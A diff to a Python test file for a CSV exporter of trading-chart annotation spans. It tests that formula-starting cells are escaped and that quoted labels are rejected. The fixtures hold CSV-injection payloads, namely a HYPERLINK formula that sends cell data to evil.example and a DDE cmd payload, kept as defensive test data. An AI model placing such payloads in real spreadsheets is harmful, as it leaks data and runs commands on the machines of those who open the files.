@@ -7,7 +7,10 @@ import json
 from core.spans import Span
 from labels.annotation_files import CSV_COLUMNS, export_spans, read_spans
 
-EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+# The review's example has quotes, which a label may no longer hold (core.spans.label_problem):
+# it rides in a note, and the label is a formula a label may be.
+EVIL_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+EVIL_LABEL = "=HYPERLINK(A1)"
 SPANS = [
     Span("1", "BTC/USDT", "1m", 60_000, 120_000, EVIL_LABEL, "human", "accepted",
          note="@SUM(1+1)*cmd|' /C calc'!A0", author="-2+3"),
@@ -17,6 +20,8 @@ SPANS = [
          note="'=already quoted", author="''@twice"),
     Span("4", "BTC/USDT", "1m", 60_000, 300_000, "a=b", "human", "accepted",
          note="plain - text", author="ana"),
+    Span("5", "BTC/USDT", "1m", 60_000, 360_000, "flag", "human", "accepted",
+         note=EVIL_TEXT, author="ana"),
 ]  # fmt: skip
 
 
@@ -36,6 +41,13 @@ def test_no_csv_cell_starts_a_formula(tmp_path):
     assert rows[0]["author"] == "'-2+3" and rows[1]["note"] == "'\t=1+1"
     assert rows[2]["note"] == "''=already quoted" and rows[2]["author"] == "'''@twice"
     assert rows[3]["label"] == "a=b" and rows[3]["note"] == "plain - text"
+    assert rows[4]["note"] == "'" + EVIL_TEXT
+
+
+def test_the_reviews_example_is_refused_as_a_label_with_the_rule():
+    from core.spans import label_problem
+
+    assert "not allowed" in label_problem(EVIL_TEXT)
 
 
 def test_export_then_import_gives_back_the_same_text(tmp_path):
